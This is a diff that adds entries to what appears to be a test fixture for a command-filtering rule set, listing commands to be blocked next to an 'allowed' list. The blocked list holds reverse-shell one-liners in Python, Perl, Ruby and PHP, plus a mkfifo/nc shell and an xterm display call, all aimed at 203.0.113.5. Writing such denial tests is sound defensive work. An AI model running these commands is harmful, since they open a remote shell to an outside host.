@@ -29,6 +29,9 @@ describeRules({
       python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
       perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'
       ruby -rsocket -e 'f=TCPSocket.open("203.0.113.5",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'
+      python3 -c 'import pty; pty.spawn("/bin/bash")'
+      xterm -display 203.0.113.5:1
+      mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 1 > /tmp/f
       php -r '$s=fsockopen("203.0.113.5",1);exec("/bin/sh -i <&3");'`,
     allowed: `
       echo > /dev/tcp/localhost/5432
